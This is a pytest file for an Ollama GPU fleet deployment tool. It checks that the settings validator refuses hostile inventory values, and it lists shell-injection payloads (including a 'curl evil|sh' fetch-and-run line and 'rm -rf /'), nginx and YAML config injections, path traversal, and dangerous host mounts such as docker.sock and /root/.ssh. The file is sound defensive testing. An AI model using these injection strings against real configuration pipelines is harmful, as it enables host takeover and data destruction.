"""Hostile or malformed inventory values: each is refused with `host: key: problem` before
anything runs, or is harmless for a reason stated beside it and checked where it can be.

Every refused value here once reached a shell, a Compose file, an nginx config, a crash or
a port open to the network (or would have). tests/lab/test_hostile_inventory.py runs
LAB_HOSTILE, a fixed part of the corpus as many lab runs as before, against lab hosts and
checks on the hosts that none of them was touched."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from typing import Any, NamedTuple

import pytest
import yaml

from ollama_fleet.tasks.kit.fleet import Fleet
from ollama_fleet.tasks.kit.settings import Settings, SettingsError, settings_for, validate_fleet
from ollama_fleet.tasks.steps.apps import render_apps
from ollama_fleet.tasks.steps.metrics import render_metrics
from ollama_fleet.tasks.steps.stack import plan_instances, stack_files

INJECT = "$(touch /tmp/pwned)"
NGINX_BLOCK = "127.0.0.1:80; } server { listen 8080; root /etc; autoindex on; } #"
YAML_ESCAPE = "5m\n    privileged: true\n    pid: host"
SERVER_LINE = "max_fails=0; server 10.6.6.6:80"  # one more upstream in the front door


def app(**service: Any) -> dict:
    return {"web": {"image": "acme/web:1", **service}}


# (knob, value): each alone on an otherwise valid GPU host must be refused naming the knob.
# Every check here is one of the knob's own (a value), so several at once are each named;
# the first 67 are the first corpus, which the lab runs whole.
HOSTILE: list[tuple[str, object]] = [
    # -- text that would reach a shell, Compose or nginx as code
    ("ollama_bind_address", NGINX_BLOCK),
    ("ollama_bind_address", "0.0.0.0 ; rm -rf /"),
    ("ollama_bind_address", "localhost"),
    ("ollama_bind_address", "１２７.0.0.1"),  # fullwidth digits
    ("ollama_keep_alive", YAML_ESCAPE),
    ("ollama_keep_alive", "5m'"),
    ("ollama_keep_alive", "forever"),
    ("ollama_environment", {"OLLAMA_DEBUG": "1\n    privileged: true"}),
    ("ollama_environment", {"BAD KEY": "1"}),
    ("ollama_environment", {"X": "a\x00b"}),
    ("ollama_environment", {"OLLAMA_HOST": "0.0.0.0:1"}),
    ("ollama_environment", {"Х": "cyrillic key"}),
    ("ollama_models", ["a/b/c/d"]),
    ("ollama_models", [f"tinyllama{INJECT}"]),
    ("ollama_models", ["tinyllama;reboot"]),
    ("ollama_models", ["../../etc/passwd"]),
    ("ollama_models", ["llama3.2:"]),
    ("ollama_models", ["ⅼlama3.2"]),  # small roman numeral fifty, not an l
    ("ollama_models", ["model\nname"]),
    ("ollama_models", ["-rf"]),
    ("ollama_registry", f"https://registry.example{INJECT}"),
    ("ollama_registry", "https://a.example/x y"),
    ("ollama_registry", "ftp://registry.example"),
    ("ollama_registry", "http://registry.example"),  # plain http without fleet_insecure_http
    ("ollama_registry", "https://registry.example/`id`"),
    ("docker_repo_url", "https://download.docker.com/linux\ndeb http://evil.example/ x main"),
    ("docker_registry_mirrors", ["https://mirror.example'; curl evil|sh; '"]),
    # each passes `dockerd --validate` and then stops dockerd at its start (Docker 26)
    ("docker_registry_mirrors", ["https://mirror.example/a%zz"]),
    ("docker_registry_mirrors", ["https://user:secret@mirror.example"]),
    ("docker_registry_mirrors", ["https://mirror.example/?x=1"]),
    ("docker_registry_mirrors", ["https://mirror.example:99999"]),
    ("nvidia_toolkit_repo_url", "https://nvidia.github.io/libnvidia-container/{distro}"),
    ("nvidia_driver_gpgkey_url", "https://example.com/key.pub && reboot"),
    ("nvidia_toolkit_version", "1.17.8-1 nvidia-container-toolkit=9"),
    ("ollama_models_path", "/srv/../etc"),
    ("ollama_models_path", "relative/models"),
    ("ollama_models_path", "/srv/models dir"),
    ("ollama_stack_dir", "/opt/ollama;rm -rf /"),
    ("front_door_dir", "/opt/front/.."),
    ("ollama_memory_limit", "1g\n    network_mode: host"),
    ("ollama_image", "ollama/ollama:0.6.8\n    privileged: true"),
    ("ollama_image", "ollama/ollama:latest$(id)"),
    ("nginx_image", "nginx:1.27 --privileged"),
    ("nginx_timeout", "600s; return 200"),
    ("nginx_max_body", "100m; autoindex on"),
    ("nginx_rate_limit", "10r/s zone=x"),
    ("nvidia_exporter_listen", "0.0.0.0:9400\nprivileged: true"),
    ("nvidia_exporter_listen", "exporter.example:9400"),
    ("nginx_allow", ["10.0.0.0/8; allow all"]),
    ("ollama_fanout_allow", ["0.0.0.0/0 all"]),
    ("app_cache_memory", "256mb\nappendonly no"),
    ("app_cache_policy", "allkeys-lru --protected-mode no"),
    ("nginx_tls_cert", "/etc/cert.pem\nssl_certificate /etc/shadow"),
    ("nginx_api_keys", {"env": "KEYS; id"}),
    ("app_services", app(memory_limit="1g\n    network_mode: host")),
    ("app_services", app(ollama_model=f"x{INJECT}")),
    ("app_services", app(environment={"A B": "1"})),
    ("app_services", app(environment={"A": "1\nB: 2"})),
    ("app_services", app(volumes=["/:/host"])),
    ("app_services", app(volumes=["/srv/../etc:/x"])),
    ("app_services", app(ports=["999999:80"])),
    ("app_services", app(ports=["0.0.0.0.0:80:80"])),
    ("app_services", app(command=["sh", "-c", "a\nb"])),
    ("app_services", app(depends_on=["db; id"])),
    ("app_services", {"Web Server": {"image": "acme/web:1"}}),
    ("app_services", app(cpus=-1)),
    ("app_services", app(secrets={"T": {"env": "$(id)"}})),
    # -- addresses with a zone: Python reads any text after `%`, and nginx would get it
    ("ollama_bind_address", "fe80::1%eth0"),
    ("ollama_bind_address", "fe80::1%lo;allow"),
    ("nginx_allow", ["fe80::%a;}server{/64"]),
    ("ollama_fanout_allow", ["fe80::%eth0/64"]),
    ("nvidia_exporter_listen", "[fe80::1%x;y]:9400"),
    # -- an Ollama port open beyond the host (issue: a wildcard bind opens the whole API)
    ("ollama_bind_address", "0.0.0.0"),
    ("ollama_bind_address", "::"),
    ("ollama_bind_address", "0:0:0:0:0:0:0:0"),  # :: spelled out
    ("ollama_bind_address", "::ffff:0.0.0.0"),  # Go binds it as 0.0.0.0
    ("ollama_bind_address", "::ffff:127.0.0.1"),  # as IPv6, written for IPv4
    ("ollama_bind_address", "8.8.8.8"),  # public
    ("ollama_bind_address", "2001:4860:4860::8888"),  # public
    ("ollama_bind_address", "100.64.0.1"),  # carrier-grade NAT: the ISP's other customers
    ("ollama_bind_address", "169.254.169.254"),  # link-local: a cloud's metadata address
    ("ollama_bind_address", "fe80::1"),  # link-local
    ("ollama_bind_address", "192.0.2.1"),  # documentation range: Python calls it private
    ("ollama_bind_address", "224.0.0.1"),  # multicast
    ("ollama_bind_address", "255.255.255.255"),
    ("ollama_bind_address", "127.1"),  # inet_aton reads 127.0.0.1; Python and Go do not
    ("ollama_bind_address", "2130706433"),  # 127.0.0.1 as one number
    ("ollama_bind_address", "127.0.0.1 "),
    # -- networks with host bits: nginx would allow the whole network
    ("nginx_allow", ["10.0.0.5/8"]),
    ("nginx_allow", ["192.168.1.1/24"]),
    ("nginx_allow", ["fd00::1/64"]),
    ("ollama_fanout_allow", ["172.16.5.4/12"]),
    ("app_network", "172.31.254.1/24"),
    # -- app_network: private, /24 to /28
    ("app_network", "10.0.0.0/8"),
    ("app_network", "172.16.0.0/12"),
    ("app_network", "192.168.0.0/23"),
    ("app_network", "0.0.0.0/0"),
    ("app_network", "8.8.8.0/24"),
    ("app_network", "172.31.254.0/29"),
    ("app_network", "fd00::/64"),
    # -- times, sizes and counts that nginx, Compose, Docker or Go read otherwise
    ("nginx_timeout", "0"),  # every proxied request 504
    ("nginx_timeout", "0s"),
    ("nginx_timeout", "0ms"),
    ("nginx_timeout", "500ms"),
    ("nginx_timeout", "2h"),  # longer than any drain waits
    ("nginx_timeout", "-1s"),
    ("nginx_timeout", "1d"),
    ("front_door_fail_timeout", "0"),
    ("front_door_fail_timeout", "25h"),
    ("nginx_max_body", "0"),  # no cap at all
    ("nginx_max_body", "0m"),
    ("nginx_max_body", "-1m"),
    ("nginx_max_body", "1t"),
    ("front_door_drain_timeout", 0),
    ("front_door_drain_timeout", -1),
    ("front_door_max_fails", 0),  # passive health off
    ("ollama_memory_limit", "1m"),  # Docker starts nothing under 6m
    ("ollama_memory_limit", "0"),
    ("ollama_memory_limit", "-1g"),
    ("ollama_keep_alive", "9999999999h"),  # past Go's durations: Ollama's 5m instead
    ("ollama_keep_alive", "-9999999999h"),
    ("ollama_keep_alive", "99999999999"),
    ("ollama_fanout_rate", "0"),
    ("ollama_fanout_rate", "999999999999999m"),
    ("nginx_rate_limit", "0r/s"),
    ("docker_log_max_size", "0m"),
    ("docker_log_max_file", 0),
    ("ollama_health_timeout", 0),
    ("ollama_health_start_period", 0),
    ("nvidia_gpu_ready_timeout", 0),
    ("nvidia_driver_reboot_timeout", 0),
    ("health_interval", 0),
    ("health_return_after", 0),
    ("health_max_unavailable", -1),
    ("ollama_num_parallel", 0),
    ("ollama_max_queue", 0),
    ("ollama_max_loaded_models", -1),
    ("nginx_rate_burst", -1),
    ("nginx_conn_limit", -1),
    ("nginx_port", 0),
    ("front_door_port", 70000),
    ("ollama_base_port", 0),
    # -- system directories as stores, stack directories, app volumes
    ("ollama_models_path", "/"),
    ("ollama_models_path", "/etc"),  # the host's /etc in every instance
    ("ollama_models_path", "/etc/"),
    ("ollama_models_path", "/var/lib/docker"),
    ("ollama_models_path", "/var/lib/docker/volumes/ollama-models/_data"),
    ("ollama_models_path", "/proc/self"),
    ("ollama_models_path", "/sys/fs"),
    ("ollama_models_path", "/dev/shm"),
    ("ollama_models_path", "/boot/efi"),
    ("ollama_models_path", "/root/.ollama"),
    ("ollama_models_path", "/home"),
    ("ollama_models_path", "/usr"),
    ("ollama_models_path", "/var"),
    ("ollama_models_path", "/var/lib"),
    ("ollama_models_path", "/bin"),
    ("ollama_stack_dir", "/tmp"),  # chmod 0755 /tmp
    ("ollama_stack_dir", "/etc"),
    ("ollama_stack_dir", "/usr/local"),
    ("ollama_stack_dir", "/var/run/ollama"),
    ("ollama_stack_dir", "/root"),
    ("ollama_stack_dir", "/opt"),
    ("front_door_dir", "/etc"),
    ("front_door_dir", "/run/front"),
    ("front_door_dir", "/var/tmp"),
    ("app_services", app(volumes=["/var/run/docker.sock:/var/run/docker.sock"])),
    ("app_services", app(volumes=["/run/docker.sock:/docker.sock:ro"])),
    ("app_services", app(volumes=["/run/containerd/containerd.sock:/c.sock"])),
    ("app_services", app(volumes=["/etc:/host-etc:ro"])),
    ("app_services", app(volumes=["/proc:/host-proc:ro"])),
    ("app_services", app(volumes=["/root/.ssh:/keys:ro"])),
    ("app_services", app(volumes=["/var/lib/docker:/docker"])),
    ("app_services", app(volumes=["/etc/cron.d:/cron"])),  # written: root's cron
    ("app_services", app(volumes=["/usr/bin:/x"])),
    ("app_services", app(volumes=["/dev/nvidia0:/dev/nvidia0"])),
    ("app_services", app(volumes=["/home:/h"])),
    ("app_services", app(memory_limit="4m")),
    ("app_services", app(cpus=0)),
    # inside the host's programs or configuration: every instance's root would write there
    ("ollama_models_path", "/etc/cron.d"),
    ("ollama_models_path", "/etc/sudoers.d"),
    ("ollama_models_path", "/etc/systemd/system"),
    ("ollama_models_path", "/usr/local/sbin"),
    ("ollama_models_path", "/var/spool/cron"),
    ("ollama_stack_dir", "/etc/ollama"),
    ("ollama_stack_dir", "/usr/lib/ollama"),
    ("front_door_dir", "/etc/nginx"),
]

# The old corpus and one value of each family since: as many lab runs as the old corpus
# (rounds() on three hosts), the rest checked here only.
LAB_HOSTILE: list[tuple[str, object]] = HOSTILE[:67] + [
    ("ollama_bind_address", "0.0.0.0"),
    ("ollama_bind_address", "::"),
    ("ollama_bind_address", "8.8.8.8"),
    ("nginx_allow", ["fe80::%a;}server{/64"]),
    ("nginx_allow", ["10.0.0.5/8"]),
    ("app_network", "10.0.0.0/8"),
    ("nginx_timeout", "0"),
    ("nginx_max_body", "0"),
    ("front_door_max_fails", 0),
    ("ollama_keep_alive", "9999999999h"),
    ("ollama_models_path", "/etc"),
    ("ollama_stack_dir", "/tmp"),
    ("front_door_dir", "/etc"),
    ("app_services", app(volumes=["/var/run/docker.sock:/var/run/docker.sock"])),
    ("app_services", app(volumes=["/etc/cron.d:/cron"])),
]

# (inventory name, ssh_hostname or None, the key named): a name or address lands in the
# front door's upstreams and maps; outside the grammar it could add servers there.
HOSTILE_NAMES: list[tuple[str, str | None, str]] = [
    ("gpu-1\nserver 10.6.6.6:80", None, "name"),
    (f"gpu-1 {SERVER_LINE}", None, "name"),
    ("gpu-1;", None, "name"),
    ('gpu-1"', None, "name"),
    ("gpu-1#", None, "name"),
    ("gpu-1}", None, "name"),
    ("gpü-1", None, "name"),
    ("", None, "name"),
    ("-gpu", None, "name"),
    ("10.0.0.300", None, "name"),  # a mistyped address, not a name
    ("fe80::1%eth0", None, "name"),
    ("a" * 64, None, "name"),  # a label is at most 63
    ("@docker/x y", None, "name"),
    ("gpu-1", "10.0.0.1\nserver 10.6.6.6:80", "ssh_hostname"),
    ("gpu-1", f"10.0.0.1 {SERVER_LINE}", "ssh_hostname"),
    ("gpu-1", "10.0.0.1;", "ssh_hostname"),
    ("gpu-1", "gpu-1.example.net }", "ssh_hostname"),
    ("gpu-1", "fe80::1%eth0", "ssh_hostname"),
    ("gpu-1", "10.0.0.256", "ssh_hostname"),
    ("gpu-1", "gpu-1\t", "ssh_hostname"),
    ("gpu-1", "", "ssh_hostname"),
    ("gpu-1", "ｇｐｕ-1", "ssh_hostname"),  # fullwidth letters
    ("gpu-1", "gpu-1.example.net:22", "ssh_hostname"),
]


def _compose(settings: Settings) -> dict:
    files = stack_files(settings, plan_instances(settings, [{"index": 0, "uuid": "GPU-0"}]),
                        Fleet())
    return yaml.safe_load(files["compose.yaml"])


def _nginx(settings: Settings) -> str:
    return stack_files(settings, plan_instances(settings, [{"index": 0, "uuid": "GPU-0"}]),
                       Fleet())["nginx/ollama.conf"]


def _env(settings: Settings) -> dict:
    return _compose(settings)["services"]["ollama-0"]["environment"]


def _store(settings: Settings) -> str:
    return _compose(settings)["services"]["ollama-0"]["volumes"][0].split(":")[0]


def _app(settings: Settings) -> dict:
    return yaml.safe_load(render_apps(settings))


class Harmless(NamedTuple):
    """A value that looks hostile and is not: why, and what shows it (None: the reason
    is the documented meaning of the knob, nothing to render)."""

    knob: str
    value: object
    reason: str
    holds: Callable[[Settings], bool] | None = None
    data: dict = {}  # noqa: RUF012 (never mutated: the other knobs the value goes with)


HARMLESS: list[Harmless] = [
    Harmless("ollama_bind_address", "172.17.0.1", "the Docker bridge's gateway: the host and "
             "its containers reach it, a LAN does not route to it",
             lambda s: _env(s)["OLLAMA_HOST"] == "172.17.0.1:11434"),
    Harmless("ollama_bind_address", "127.0.0.2", "loopback: the host alone",
             lambda s: _env(s)["OLLAMA_HOST"] == "127.0.0.2:11434"),
    Harmless("ollama_bind_address", "::1", "loopback, IPv6 (bracketed for Ollama)",
             lambda s: _env(s)["OLLAMA_HOST"] == "[::1]:11434"),
    Harmless("ollama_bind_address", "10.1.2.3", "a private address the operator picked: the "
             "LAN it is on, never the internet",
             lambda s: _env(s)["OLLAMA_HOST"] == "10.1.2.3:11434"),
    Harmless("ollama_bind_address", "fd12:3456::1", "a unique local address (fc00::/7): "
             "private, IPv6", lambda s: _env(s)["OLLAMA_HOST"] == "[fd12:3456::1]:11434"),
    Harmless("ollama_bind_unsafe", True, "a wildcard, said on purpose with the knob that names "
             "the risk; the host still reaches its instances at loopback",
             lambda s: _env(s)["OLLAMA_HOST"] == "0.0.0.0:11434"
             and s.instance_url(11434) == "http://127.0.0.1:11434",
             {"ollama_bind_address": "0.0.0.0"}),
    Harmless("ollama_bind_unsafe", True, "the knob alone changes nothing: the address is "
             "still loopback", lambda s: _env(s)["OLLAMA_HOST"] == "127.0.0.1:11434"),
    Harmless("nginx_allow", ["0.0.0.0/0"], "everyone over IPv4, which `[]` says for all: the "
             "operator's words, as nginx reads them",
             lambda s: "allow 0.0.0.0/0;" in _nginx(s)),
    Harmless("nginx_allow", ["10.0.0.5"], "one address, as nginx reads it",
             lambda s: "allow 10.0.0.5;" in _nginx(s)),
    Harmless("nginx_allow", ["10.0.0.5/32"], "one address as a /32: no host bits",
             lambda s: "allow 10.0.0.5/32;" in _nginx(s)),
    Harmless("ollama_fanout_allow", ["fd00::/8"], "a network without host bits, IPv6",
             lambda s: "allow fd00::/8;" in _nginx(s)),
    Harmless("ollama_models_path", "/usr/share/ollama/.ollama/models", "the store of a native "
             "Ollama install, to take over: inside /usr/share, not /usr/share",
             lambda s: _store(s) == "/usr/share/ollama/.ollama/models"),
    Harmless("ollama_models_path", "/ETC", "paths are case-sensitive: a new directory, not "
             "/etc", lambda s: _store(s) == "/ETC"),
    Harmless("ollama_models_path", "/srv/etc", "a directory named etc, not /etc",
             lambda s: _store(s) == "/srv/etc"),
    Harmless("ollama_models_path", "/var/lib/ollama", "inside /var/lib, not /var/lib",
             lambda s: _store(s) == "/var/lib/ollama"),
    Harmless("ollama_models_path", "/home/ops/models", "inside /home, not /home",
             lambda s: _store(s) == "/home/ops/models"),
    Harmless("ollama_stack_dir", "/tmp/ollama", "a directory of its own under /tmp: the deploy "
             "chmods it, not /tmp", lambda s: s.ollama_stack_dir == "/tmp/ollama"),
    Harmless("ollama_stack_dir", "/opt/ollama/", "the default with a slash: the same "
             "directory", lambda s: s.ollama_stack_dir == "/opt/ollama/"),
    Harmless("app_services", app(volumes=["/etc/ssl/certs:/etc/ssl/certs:ro"]), "read-only: "
             "the app reads the host's CA certificates and writes nothing",
             lambda s: _app(s)["services"]["web"]["volumes"] == [
                 "/etc/ssl/certs:/etc/ssl/certs:ro"]),
    Harmless("app_services", app(volumes=["/etc/localtime:/etc/localtime:ro"]),
             "read-only: the host's time zone",
             lambda s: _app(s)["services"]["web"]["volumes"] == [
                 "/etc/localtime:/etc/localtime:ro"]),
    Harmless("app_services", app(volumes=["docker.sock:/var/run/docker.sock"]), "a named "
             "volume called docker.sock (Docker's own empty directory), not the socket",
             lambda s: _app(s)["volumes"] == {"docker.sock": {
                 "name": "ollama-apps-docker.sock"}}),
    Harmless("app_services", app(volumes=["/srv/web:/etc"]), "the host directory is the "
             "app's own; where it appears inside the container is the app's business",
             lambda s: _app(s)["services"]["web"]["volumes"] == ["/srv/web:/etc"]),
    Harmless("app_services", app(memory_limit="6m"), "the least Docker starts a container "
             "with", lambda s: _app(s)["services"]["web"]["deploy"]["resources"]["limits"][
                 "memory"] == "6m"),
    Harmless("ollama_keep_alive", "0", "Ollama unloads the model after each request: slower, "
             "nothing opened", lambda s: _env(s)["OLLAMA_KEEP_ALIVE"] == "0"),
    Harmless("ollama_keep_alive", "-1", "forever, as documented",
             lambda s: _env(s)["OLLAMA_KEEP_ALIVE"] == "-1"),
    Harmless("ollama_keep_alive", "2562047h", "the longest duration Go reads (just under "
             "2^63 ns): Ollama takes it as written",
             lambda s: _env(s)["OLLAMA_KEEP_ALIVE"] == "2562047h"),
    Harmless("nginx_timeout", "1h", "the longest a front door's drain waits",
             lambda s: "proxy_read_timeout 1h;" in _nginx(s),
             {"front_door_drain_timeout": 3600}),
    Harmless("nginx_max_body", "1", "one byte: every body larger is refused (413), loudly",
             lambda s: "client_max_body_size 1;" in _nginx(s)),
    Harmless("nginx_rate_burst", 0, "nginx's own default burst: the rate alone",
             lambda s: "burst=0 nodelay" in _nginx(s), {"nginx_rate_limit": "10r/s"}),
    Harmless("nginx_conn_limit", 0, "no limit, as documented",
             lambda s: "limit_conn conn" not in _nginx(s)),
    Harmless("health_max_unavailable", 0, "the health agent never reboots, as documented"),
    Harmless("ollama_max_loaded_models", 0, "Ollama's own default, as documented",
             lambda s: _env(s)["OLLAMA_MAX_LOADED_MODELS"] == "0"),
    Harmless("app_network", "10.99.0.0/28", "the smallest app network: 14 addresses"),
    Harmless("nvidia_exporter_listen", "0.0.0.0:9400", "GPU metrics only (read, no API, no "
             "models): the operator's scrape address",
             lambda s: "DCGM_EXPORTER_LISTEN: \"0.0.0.0:9400\"" in render_metrics(s)),
]

# (inventory name, ssh_hostname, why it passes)
HARMLESS_NAMES: list[tuple[str, str | None, str]] = [
    ("gpu_1", "10.0.0.1", "an underscore: not DNS's, but nothing to nginx or SSH"),
    ("gpu-1.example.net.", None, "a fully qualified name, root dot included"),
    ("10.0.0.1", None, "an address as the name"),
    ("fd00::1", None, "an IPv6 address as the name"),
    ("@local", None, "pyinfra's own connector name"),
    ("gpu-1", "gpu-1.lab.example", "a name to reach it by"),
    ("gpu-1", "fd00::1", "an IPv6 address to reach it by"),
]


def _ids(corpus: list[tuple[str, object]]) -> list[str]:
    seen: Counter[str] = Counter()
    ids = []
    for key, _ in corpus:
        seen[key] += 1
        ids.append(f"{key}-{seen[key]}")
    return ids


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) + len(HOSTILE_NAMES) - 67 >= 80  # the values since the first corpus
    assert len(HARMLESS) + len(HARMLESS_NAMES) >= 20


@pytest.mark.parametrize("key, value", HOSTILE, ids=_ids(HOSTILE))
def test_each_hostile_value_is_refused_naming_host_and_key(key, value):
    with pytest.raises(SettingsError) as exc:
        validate_fleet({"gpu-1": {"gpu_count": 1, key: value}}, ["gpu-1"], [])
    assert len(exc.value.problems) == 1, exc.value.problems
    line = exc.value.problems[0]
    assert line.startswith(f"gpu-1: {key}"), line
    assert "\n" not in line


@pytest.mark.parametrize("name, address, key", HOSTILE_NAMES,
                         ids=[f"{key}-{n}" for n, (_, _, key) in enumerate(HOSTILE_NAMES)])
def test_each_hostile_name_is_refused_on_one_line_naming_the_key(name, address, key):
    data = {"gpu_count": 1} | ({} if address is None else {"ssh_hostname": address})
    with pytest.raises(SettingsError) as exc:
        validate_fleet({name: data}, [name], [])
    assert len(exc.value.problems) == 1, exc.value.problems
    line = exc.value.problems[0]
    label = ascii(name) if key == "name" else name
    assert line.startswith(f"{label}: {key}: "), line
    assert line.isascii() and "\n" not in line, line


@pytest.mark.parametrize("case", HARMLESS, ids=[f"{c.knob}-{n}" for n, c in enumerate(HARMLESS)])
def test_each_harmless_value_passes_for_its_reason(case):
    settings = settings_for("gpu-1", {"gpu_count": 1, **case.data, case.knob: case.value})
    assert case.reason
    if case.holds is not None:
        assert case.holds(settings), case.reason


@pytest.mark.parametrize("name, address, reason", HARMLESS_NAMES)
def test_each_harmless_name_passes(name, address, reason):
    data = {"gpu_count": 1} | ({} if address is None else {"ssh_hostname": address})
    assert validate_fleet({name: data}, [name], [])[name].gpu_count == 1, reason


def test_plain_http_is_for_operators_who_say_so():
    settings_for("gpu-1", {"ollama_registry": "http://10.0.0.9:8081",
                           "fleet_insecure_http": True})


def test_the_lab_sample_is_part_of_the_corpus_and_needs_no_more_runs():
    from tests.lab.test_hostile_inventory import rounds

    assert all(item in HOSTILE for item in LAB_HOSTILE)
    hosts = ["gpu-1", "gpu-2", "cpu-1"]  # the smallest lab the test runs on
    assert len(rounds(hosts, LAB_HOSTILE)) == len(rounds(hosts, HOSTILE[:67])) == 5


def test_many_hostile_values_at_once_are_each_named():
    """As the lab test sends them: several on one host at a time. A check that only runs
    once a host's other values are valid would hide some of them."""
    from tests.lab.test_hostile_inventory import rounds

    hosts = ["gpu-1", "gpu-2", "cpu-1"]
    for run in rounds(hosts, HOSTILE):
        data = {h: {"gpu_count": 0 if h == "cpu-1" else 1, **run.get(h, {})} for h in hosts}
        with pytest.raises(SettingsError) as exc:
            validate_fleet(data, hosts, [])
        for host, keys in run.items():
            for key in keys:
                assert any(p.startswith(f"{host}: {key}") for p in exc.value.problems), (
                    host, key, exc.value.problems)
